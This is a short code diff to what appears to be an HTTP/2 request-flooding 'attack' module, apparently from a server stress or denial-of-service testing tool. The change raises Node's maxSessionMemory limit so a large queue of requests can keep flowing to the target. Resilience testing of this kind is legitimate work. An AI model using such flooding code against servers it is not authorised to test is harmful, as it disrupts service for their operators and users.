@@ -20,6 +20,8 @@ export const attack: Attack = {
     target.watch(socket);
     const session = connect(`http://${target.host}:${target.port}`, {
       createConnection: () => socket,
+      // By default, Node's client refuses responses while 10 MB of requests wait to be sent.
+      maxSessionMemory: 100,
     });
     session.on("error", () => undefined);
     const ends = Array.from({ length: calls }, (_, index) => {
